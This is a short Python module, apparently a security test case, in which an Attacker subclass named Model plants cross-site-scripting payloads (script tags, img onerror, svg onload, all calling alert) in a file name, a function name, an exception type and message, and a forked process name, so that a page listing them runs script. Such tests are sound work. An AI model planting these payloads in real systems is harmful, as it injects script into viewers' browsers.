"""Names its files, functions, errors and processes so that a page that shows the names runs a script."""

import ctypes
import importlib
import os
import sys
import time

from lib import Attacker  # noqa: F401

FILE = "<img src=x onerror=alert(1)>"
PR_SET_NAME = 15
CODE = """
def act():
    act.__code__ = act.__code__.replace(co_name="<script>alert(1)</script>")
    raise type("</pre><script>alert(1)</script>", (Exception,), {})("<svg onload=alert(1)>")
"""


class Model(Attacker):
    def attack(self):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(PR_SET_NAME, b"<script>a()//", 0, 0, 0)
            time.sleep(3600)
        time.sleep(0.2)  # so that it bears its name when it is named
        with open(FILE + ".py", "w") as stream:
            stream.write(CODE)
        sys.path.insert(0, os.getcwd())
        importlib.import_module(FILE).act()
